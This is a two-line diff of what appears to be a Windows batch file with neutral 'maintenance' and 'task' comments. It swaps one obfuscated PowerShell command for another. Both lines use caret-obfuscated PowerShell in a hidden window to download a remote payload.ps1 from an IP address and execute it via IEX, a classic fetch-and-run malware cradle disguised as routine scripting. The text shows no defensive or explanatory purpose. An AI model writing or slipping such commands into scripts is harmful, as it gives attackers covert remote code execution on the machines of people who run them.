@@ -1,2 +1,2 @@
-REM maintenance 1909 v0
-p^owe^r^sh^e^ll -^no^p -w ^hidd^en -^c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/payload.ps1')"
+REM task 7079 v0
+^po^w^e^r^she^l^l -nop -^w hi^d^de^n -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/payload.ps1')"
